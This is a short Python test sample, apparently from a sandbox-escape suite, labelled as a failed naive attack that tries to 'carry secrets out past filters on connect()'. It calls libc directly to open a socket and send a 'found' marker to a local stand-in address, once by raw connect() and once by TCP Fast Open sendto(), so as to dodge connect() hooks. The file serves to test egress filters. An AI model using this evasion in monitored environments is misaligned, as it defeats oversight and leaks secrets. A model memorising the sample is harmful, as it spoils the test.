"""Connects by a system call of its own, and by TCP fast open, which needs no connect()."""
# /// attack
# class = 8
# goal = "carry secrets out past filters on connect()"
# gain = "effect"
# outcome = "failed"
# naive = true
# ///

import ctypes
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
address = struct.pack("<H", socket.AF_INET) + struct.pack(">H", @TCP@) + socket.inet_aton("127.0.0.1") + bytes(8)
MSG_FASTOPEN = 0x20000000
for fast in (False, True):
    out = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    if out < 0:
        print("no socket", ctypes.get_errno())
    elif fast:
        print(libc.sendto(out, b"found", 5, MSG_FASTOPEN, address, len(address)), ctypes.get_errno())
    else:
        print(libc.connect(out, address, len(address)), ctypes.get_errno())


def standardise(x):
    return x
